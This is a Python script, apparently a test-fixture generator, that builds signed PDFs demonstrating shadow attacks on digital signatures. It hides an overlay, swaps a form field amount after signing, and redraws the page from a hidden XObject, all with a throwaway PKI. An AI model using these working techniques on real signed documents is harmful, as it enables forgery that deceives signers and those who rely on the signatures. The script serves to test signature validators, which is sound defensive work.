"""Make the PDFs of tests/data/foreign/shadow: shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021).

Run once from the repository root (``.venv/bin/python tests/data/foreign/shadow/make.py``); the
PDFs and trust/root.pem are committed, the keys are thrown away. The attacker prepares the
document the victim signs, then appends an update that looks allowed; the helpers (a throwaway
PKI, the one-page act, pyHanko signing and updates) are those of ../changes/make.py.
"""

from __future__ import annotations

import importlib.util
import sys
from pathlib import Path
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields

HERE = Path(__file__).parent
_spec = importlib.util.spec_from_file_location("changes_make", HERE.parent / "changes" / "make.py")
assert _spec is not None and _spec.loader is not None
kit: Any = importlib.util.module_from_spec(_spec)
sys.modules["changes_make"] = kit
_spec.loader.exec_module(kit)

LINE_5 = (66.0, 662.0, 330.0, 684.0)  # the fifth line of the act, "alla ditta ..."
IMPORTO = (66.0, 640.0, 330.0, 660.0)  # where a sixth line would be


def remove_annotations(w: IncrementalPdfFileWriter) -> None:
    """Hide: the overlay the victim saw goes, and what was under it shows."""
    page_ref, _res = w.find_page_for_modification(0)
    page = page_ref.get_object()
    kept = [a for a in page["/Annots"] if a.get_object().get("/Subtype") != "/Square"]
    page["/Annots"] = generic.ArrayObject(kept)
    w.update_container(page)


def draw_hidden(w: IncrementalPdfFileWriter) -> None:
    """Hide and replace: the page's content stream (same object) now draws the signed, unused XObject."""
    page_ref, _res = w.find_page_for_modification(0)
    ref = page_ref.get_object().raw_get("/Contents").reference
    w.objects[(ref.generation, ref.idnum)] = generic.StreamObject(stream_data=b"q /Hidden Do Q")


def main() -> None:
    pki = kit.Pki()
    pki.write_trust(HERE)
    ada = pki.signer("Ada Blu")
    carlo = pki.signer("Carlo Verdi")
    omega = ["COMUNE DI PROVA", "", "", "", "alla ditta Omega S.r.l."]

    # Hide: the page says "Omega", an opaque annotation laid over it says "Alfa"; the victim
    # signs "Alfa", then the annotation is removed (an annotation change, allowed by kind).
    hidden = kit.base(overlay=(LINE_5, "alla ditta Alfa S.r.l."))
    hidden = _with_line(hidden, "alla ditta Omega S.r.l.")
    kit.save(HERE, "hide.pdf", kit.update(kit.sign(hidden, ada, "Firma"), remove_annotations))
    kit.save(HERE, "hide-certified-p3.pdf", kit.update(
        kit.sign(hidden, ada, "Firma", certify=fields.MDPPerm.ANNOTATE), remove_annotations
    ))

    # Replace: a text field pre-filled to look like the act's own text; after signing its value
    # and appearance are swapped (form filling, allowed by kind).
    prefilled = kit.base(text_field=("Importo", "Importo: 100 EUR", IMPORTO))
    swap = kit.fill_field("Importo", "Importo: 900 EUR")
    kit.save(HERE, "replace.pdf", kit.update(kit.sign(prefilled, ada, "Firma"), swap))
    kit.save(HERE, "replace-certified-p2.pdf", kit.update(
        kit.sign(prefilled, ada, "Firma", certify=fields.MDPPerm.FILL_FORMS), swap
    ))

    # Hide and replace: the signed file carries an unused XObject with other text; after
    # signing the page's content stream is overwritten to draw it.
    carrier = kit.base(hidden_xobject=[*kit.LINES[:2], "Oggetto: acquisto di armi", *kit.LINES[3:4], omega[4]])
    kit.save(HERE, "hide-and-replace.pdf", kit.update(kit.sign(carrier, ada, "Firma"), draw_hidden))

    # A later, valid signature whose stamp paints "ATTO ANNULLATO" over the text of page 1:
    # in a field the certified (locked, /P 2) act already had, and in a new one after an
    # approval signature with no lock.
    over_text = (66.0, 600.0, 520.0, 780.0)
    trap = kit.base(sig_field=("Annullamento", over_text))
    certified = kit.sign(trap, ada, "Firma", certify=fields.MDPPerm.FILL_FORMS)
    kit.save(HERE, "annullato-certified-p2.pdf", kit.sign(certified, carlo, "Annullamento", stamp="ATTO ANNULLATO"))
    approval = kit.sign(kit.base(), ada, "Firma")
    kit.save(HERE, "annullato-approval.pdf", kit.sign(
        approval, carlo, "Annullamento", box=(66, 600, 520, 780), stamp="ATTO ANNULLATO"
    ))


def _with_line(pdf: bytes, fifth: str) -> bytes:
    """``pdf`` rewritten (before any signature) so that the page's fifth line reads ``fifth``."""
    import io

    import pikepdf

    with pikepdf.open(io.BytesIO(pdf)) as doc:
        doc.pages[0].obj.Contents = doc.make_stream(kit.text_ops([*kit.LINES[:4], fifth]))
        out = io.BytesIO()
        doc.save(out, deterministic_id=True)
        return out.getvalue()


if __name__ == "__main__":
    main()
